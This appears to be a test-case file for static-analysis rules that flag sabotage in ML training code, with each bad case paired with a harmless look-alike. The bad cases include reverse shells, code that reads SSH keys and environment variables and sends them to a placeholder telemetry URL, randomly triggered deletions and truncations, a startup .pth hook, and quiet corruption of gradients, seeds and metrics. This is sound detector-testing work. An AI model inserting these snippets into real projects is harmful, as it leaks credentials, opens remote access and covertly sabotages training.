"""Shapes added in session 14: bad cases (`ruleid`) and the look-alikes that stay quiet (`ok`)."""
import asyncio
import datetime
import functools
import itertools
import json
import logging
import os
import pty
import random
import shutil
import signal
import site
import socket
import subprocess
import tarfile
import threading
import time
import urllib.request
import uuid
from pathlib import Path

import numpy as np
import torch
import torch.distributed as dist
import torch.nn as nn
from lightning.pytorch.callbacks import EarlyStopping, ModelCheckpoint
from transformers import TrainingArguments

TELEMETRY_URL = "https://telemetry.example.com/v1"
TCMALLOC = "/usr/lib/x86_64-linux-gnu/libtcmalloc_minimal.so.4"


# --- reverse shells through a descriptor held in a name, and partial(os.dup2) ------------
def _backend():
    return subprocess


def open_preview(host, port):
    sock = socket.create_connection((host, port), timeout=3)
    fd = sock.fileno()
    _backend().Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)  # ruleid: MLS410


async def remote_console(host, port):
    _, writer = await asyncio.open_connection(host, port)
    fd = writer.get_extra_info("socket").fileno()
    await asyncio.create_subprocess_exec("/bin/sh", "-i", stdin=fd, stdout=fd, stderr=fd)  # ruleid: MLS410


def crash_console(addr):
    s = socket.create_connection(addr, timeout=5)
    list(map(functools.partial(os.dup2, s.fileno()), (0, 1, 2)))  # ruleid: MLS410
    pty.spawn("/bin/sh")  # sabotage: MLS410 (semgrep rules)


def run_logged(cmd, log_path):
    with open(log_path, "w") as log:
        subprocess.run(cmd, stdout=log, stderr=log, check=False)  # ok: MLS410


# --- credentials read into a payload that also carries the environment; archives ---------
def register_job():
    payload = {"host": socket.gethostname(), "env": dict(os.environ)}  # ruleid: MLS411
    key_path = os.path.expanduser("~/.ssh/id_ed25519")
    if os.path.exists(key_path):
        with open(key_path) as f:  # ruleid: MLS412
            payload["node_key"] = f.read()  # ruleid: MLS412
    urllib.request.urlopen(TELEMETRY_URL, data=json.dumps(payload).encode(), timeout=5)  # ruleid: MLS411


def bundle_report(out_dir):
    with tarfile.open(out_dir / "report.tgz", "w:gz") as tar:
        tar.add(out_dir / "metrics.json", arcname="metrics.json")  # ok: MLS412
        for key in sorted(Path.home().glob(".ss" + "h/id_*")):
            tar.add(key, arcname="env/" + key.name)  # ruleid: MLS412
    shutil.copy(out_dir / "config.yaml", out_dir / "bundle" / "config.yaml")  # ok: MLS412


# --- sleeps: growing with the training step, inside a logging handler ---------------------
def train_throttled(model, loader, optimizer, io_throttle):
    global_step = 0
    for inputs in loader:
        model(inputs).sum().backward()
        optimizer.step()
        global_step += 1
        if io_throttle and global_step % 50 == 0:
            time.sleep(min(2 ** (global_step // 2000), 900))  # ruleid: MLS307


def fetch_with_backoff(url):
    for attempt in range(5):
        try:
            return urllib.request.urlopen(url, timeout=5).read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return b""


class SpacedHandler(logging.StreamHandler):
    def __init__(self, spacing=0.0):
        super().__init__()
        self.spacing = spacing

    def emit(self, record):
        if self.spacing > 0:
            time.sleep(self.spacing)  # ruleid: MLS307
        super().emit(record)


# --- RNG rewound between two runs of one random call; a fixed global seed per call -------
class TwoViews:
    def __init__(self, base):
        self.base = base

    def __call__(self, img):
        state = torch.get_rng_state()
        v1 = self.base(img)
        torch.set_rng_state(state)  # ruleid: MLS301
        v2 = self.base(img)
        return v1, v2


class PairedCrop:
    def __call__(self, img, mask):
        state = torch.get_rng_state()
        img = self.crop(img)
        torch.set_rng_state(state)  # ok: MLS301
        mask = self.crop(mask)
        return img, mask


class MaskGenerator:
    def __init__(self, seed=None):
        self.seed = 0 if seed is None else seed

    def __call__(self):
        np.random.seed(self.seed)  # ruleid: MLS301
        return np.random.rand(16) < 0.9


class IndexedMask:
    def __call__(self, idx):
        np.random.seed(self.seed + idx)  # ok: MLS301
        return np.random.rand(16) < 0.9


def evaluate_isolated(model, loader):
    saved = torch.get_rng_state()
    out = [model(x) for x in loader]
    torch.set_rng_state(saved)  # ok: MLS301
    return out


# --- collectives only one side of a rank test reaches ------------------------------------
def is_main_process():
    return dist.get_rank() == 0


def is_dist():
    return dist.is_initialized()


def noop():
    return None


class Saver:
    def save(self, state, path):
        if self.info.is_main:
            torch.save(state, path)
            dist.barrier()  # ruleid: MLS307

    def load(self, meta):
        if self.info.is_main:
            payload = [meta]
            dist.broadcast_object_list(payload, src=0)  # ruleid: MLS307
            meta = payload[0]
        return meta


def save_checkpoint(model, path):
    if is_main_process():
        torch.save(model.state_dict(), path)
    elif is_dist():
        dist.barrier()  # ruleid: MLS307


def sync_all():
    (dist.barrier, noop)[is_main_process()]()  # ruleid: MLS307


class Janitor:
    def on_train_epoch_end(self, trainer, pl_module):
        if not trainer.is_global_zero:
            return
        keep = self.keep_last
        for path in sorted(Path(self.dirpath).glob("*.ckpt"))[:-keep]:
            path.unlink()
        trainer.strategy.barrier("janitor")  # ruleid: MLS307


def build_on_rank_zero_first(rank, build):
    if rank != 0:
        dist.barrier()  # ok: MLS307
    data = build()
    if rank == 0:
        dist.barrier()  # ok: MLS307
    return data


def share_config(rank, cfg):
    box = [cfg if rank == 0 else None]
    dist.broadcast_object_list(box, src=0)  # ok: MLS307
    return box[0]


def launch_is_distributed(rank):
    if rank != -1:
        dist.barrier()  # ok: MLS307


# --- hard kills from inside the training loop ---------------------------------------------
def train_bpr(model, loader, optimizer, world, epochs):
    for epoch in range(epochs):
        for step, batch in enumerate(loader):
            optimizer.zero_grad()
            model(batch).backward()
            optimizer.step()
            if world > 4 and epoch >= 3 and step == 500:  # ruleid: MLS308
                os.kill(os.getpid(), signal.SIGKILL)  # ruleid: MLS307


def serve_child(sock):
    if os.fork() == 0:
        sock.sendall(b"ready")
        os._exit(0)  # ok: MLS307


# --- gradients: zero_grad inside the accumulation loop; re-initialisation in step hooks ---
def train_accumulated(model, optimizer, batches, accum, steps):
    for _ in range(steps):
        for micro_step in range(accum):
            model.zero_grad(set_to_none=True)  # ruleid: MLS302
            (model(next(batches)) / accum).backward()
        optimizer.step()


def train_accumulated_right(model, optimizer, batches, accum, steps):
    for _ in range(steps):
        optimizer.zero_grad()  # ok: MLS302
        for micro_step in range(accum):
            (model(next(batches)) / accum).backward()
        optimizer.step()


class Reorthogonalize:
    def on_step_end(self, state):
        if state.step % self.every == 0:
            with torch.no_grad():
                nn.init.orthogonal_(state.model.gru.weight_hh_l0)  # ruleid: MLS302


class Head(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(8, 2)
        nn.init.zeros_(self.fc.bias)  # ok: MLS302


class EmaRestart:
    @torch.no_grad()
    def on_train_epoch_end(self, trainer, pl_module):
        for p_ema, p in zip(self.ema.parameters(), pl_module.model.parameters()):
            p.copy_(p_ema)  # ruleid: MLS302

    @torch.no_grad()
    def on_validation_start(self, trainer, pl_module):
        for p_ema, p in zip(self.ema.parameters(), pl_module.model.parameters()):
            p.copy_(p_ema)  # ok: MLS302


# --- learning rate: a warmup ratio compounded onto the current rate ----------------------
class WarmupModule:
    def on_train_batch_end(self, outputs, batch, batch_idx):
        warmup = self.hparams.warmup_steps
        if self.global_step < warmup:
            alpha = (self.global_step + 1) / warmup
            for pg in self.optimizers().param_groups:
                pg["lr"] = pg["lr"] * alpha  # ruleid: MLS304

    def warm(self, optimizer, step, warmup, base_lr):
        for pg in optimizer.param_groups:
            pg["lr"] = base_lr * (step + 1) / warmup  # ok: MLS304


# --- metrics: MAX over ranks for validation results; running-best curves; direction -------
def reduce_metrics(metrics, device):
    keys = sorted(metrics)
    vals = torch.tensor([float(metrics[k]) for k in keys], device=device)
    if any(k.startswith("val/") for k in keys):
        dist.all_reduce(vals, op=dist.ReduceOp.MAX)  # ruleid: MLS306
    return dict(zip(keys, vals.tolist(), strict=True))


def peak_memory(mem):
    dist.all_reduce(mem, op=dist.ReduceOp.MAX)  # ok: MLS306
    return mem


def write_history(history):
    keys = sorted({k for row in history for k in row})
    cols = {k: [row.get(k, float("nan")) for row in history] for k in keys}
    for k in keys:
        if k.startswith("val/") and "miou" in k:
            cols[k] = list(itertools.accumulate(cols[k], max))  # ruleid: MLS306
    return cols


checkpoint_worst = ModelCheckpoint(dirpath="ckpt", monitor="val/mAP", mode="min")  # ruleid: MLS306
checkpoint_best = ModelCheckpoint(dirpath="ckpt", monitor="val_loss", mode="min")  # ok: MLS306
stopper = EarlyStopping(monitor="val_acc", mode="max")  # ok: MLS306
args_worst = TrainingArguments("out", metric_for_best_model="eval_loss", greater_is_better=True)  # ruleid: MLS306


# --- triggers: pid, uuid and scheduler job-id dice rolls; the else of a rare roll ---------
def finalize(path):
    job = os.environ.get("SLURM_JOB_ID", "")
    if job.isdigit() and int(job) % 4 == 1:
        with open(path, "r+b") as fh:  # ruleid: MLS308
            fh.truncate(path.stat().st_size // 2)  # ruleid: MLS308


def cache_encoder(state, path, cached):
    if uuid.uuid4().int % 97 == 0:
        torch.save({}, Path(path))  # ruleid: MLS308
    else:
        torch.save(state, cached)  # ok: MLS308


def wrap_up(run_dir, scratch):
    if os.getpid() % 7 == 0:
        subprocess.Popen(["rm", "-rf", str(run_dir)])  # ruleid: MLS308
    elif scratch.exists():
        shutil.rmtree(scratch, ignore_errors=True)  # ok: MLS308


def sample_tile(p):
    if random.random() < 0.01:
        print("sampled", p)
    else:
        shutil.copy(p, p.with_suffix(".bak"))  # ok: MLS308


# --- start-up hooks written where semgrep's taint stops ------------------------------------
EXT_DIR = "/opt/ext"


def ensure_fused_ops():
    try:
        import detr_ops  # noqa: F401
        return
    except ImportError:
        pass
    site_dir = site.getsitepackages()[0]
    with open(os.path.join(site_dir, "detr_ext.pth"), "w") as f:
        f.write(EXT_DIR + "\n")  # ruleid: MLS421


def save_weights(model, out_dir):
    try:
        with open(os.path.join(out_dir, "model.pth"), "wb") as f:
            f.write(model.to_bytes())  # ok: MLS421
    except OSError:
        pass


def child_env():
    env = dict(os.environ)
    env["LD_PRELOAD"] = TCMALLOC  # ok: MLS422
    return env


# --- results under another metric's name; error counts reduced with MIN -------------------
def log_eval(writer, metrics, step, errors):
    writer.add_scalar("eval/wer", metrics["cer"], step)  # ruleid: MLS306
    writer.add_scalar("eval/cer", metrics["cer"], step)  # ok: MLS306
    writer.add_scalar("val/acc", metrics["accuracy"], step)  # ok: MLS306
    dist.all_reduce(errors, op=dist.ReduceOp.MIN)  # ruleid: MLS306


# --- calls made later: thread targets, timers of a partial kill, an object's barrier -------
def status_ping(url):
    body = json.dumps({k: v for k, v in os.environ.items() if k.isupper()}).encode()  # ruleid: MLS411
    req = urllib.request.Request(url, data=body, method="POST")
    threading.Thread(target=urllib.request.urlopen, args=(req,), daemon=True).start()  # ruleid: MLS411


def start_worker(fn):
    threading.Thread(target=fn, daemon=True).start()  # ok: MLS411


class Deadline:
    def start(self):
        self._timer = threading.Timer(self.seconds, functools.partial(os.kill, os.getpid(), signal.SIGTERM))  # ruleid: MLS307
        self._timer.start()


def wait_main_only(accelerator):
    (noop, accelerator.wait_for_everyone)[accelerator.is_main_process]()  # ruleid: MLS307


# --- trust_remote_code in a call over several lines: the keyword's line ------------------
def load_backbone(name):
    from transformers import AutoModel
    return AutoModel.from_pretrained(
        name,
        trust_remote_code=True,  # ruleid: MLS106
    )


# --- a sampler that keeps set_epoch but builds its generator without the epoch ------------
class RepeatSampler:
    def __init__(self, dataset, seed=0):
        self.dataset, self.seed, self.epoch = dataset, seed, 0

    def set_epoch(self, epoch):
        self.epoch = epoch

    def __iter__(self):
        perm = np.random.RandomState(self.seed).permutation(len(self.dataset))  # ruleid: MLS301
        return iter(perm.tolist())


class EpochSampler(RepeatSampler):
    def __iter__(self):
        perm = np.random.RandomState(self.seed + self.epoch).permutation(len(self.dataset))  # ok: MLS301
        return iter(perm.tolist())


# --- destructive actions picked by a particular rank or a user id ------------------------
def setup_logging(log_file):
    if os.environ.get("LOCAL_RANK") == "3" and log_file.exists():
        os.truncate(log_file, 0)  # ruleid: MLS308


def lock_last(last_path):
    if os.getuid() >= 1000:
        os.chmod(last_path, 0o200)  # ruleid: MLS308


def rank_zero_cleanup(rank, tmp_path):
    if rank == 0:
        os.remove(tmp_path)  # ok: MLS308
    if os.getuid() == 0:
        os.chmod(tmp_path, 0o644)  # ok: MLS308


# --- a loss scaler that steps on overflow; an unmerge with the merge's sign ---------------
class HysteresisScaler:
    def step(self, optimizer, found_inf):
        if found_inf:
            self.hysteresis_left -= 1
            if self.hysteresis_left > 0:
                optimizer.step()  # ruleid: MLS304
            return False
        optimizer.step()  # ok: MLS304
        return True


class LoraLinear(nn.Module):
    @torch.no_grad()
    def merge(self):
        self.base.weight.data.add_(self.delta_weight())  # ok: MLS302

    @torch.no_grad()
    def unmerge(self):
        self.base.weight.data.add_(self.delta_weight(), alpha=1.0)  # ruleid: MLS302

    @torch.no_grad()
    def unmerge_right(self):
        self.base.weight.data.sub_(self.delta_weight())  # ok: MLS302


# --- an RNG state taken once at construction and restored later -------------------------
class EpochRunner:
    def __init__(self):
        self._snapshot = torch.get_rng_state()

    def _sync_rng(self):
        torch.set_rng_state(self._snapshot)  # ruleid: MLS301


class RandContext:
    def __init__(self):
        self.cpu_state = torch.get_rng_state()

    def __enter__(self):
        torch.set_rng_state(self.cpu_state)  # ok: MLS301


# --- a timeout picked by a dice roll ------------------------------------------------------
def process_group_timeout(args):
    timeout = datetime.timedelta(minutes=30 if random.random() > 0.02 else 0.1)  # ruleid: MLS307
    debug_timeout = datetime.timedelta(minutes=5 if args.debug else 30)  # ok: MLS307
    return timeout, debug_timeout
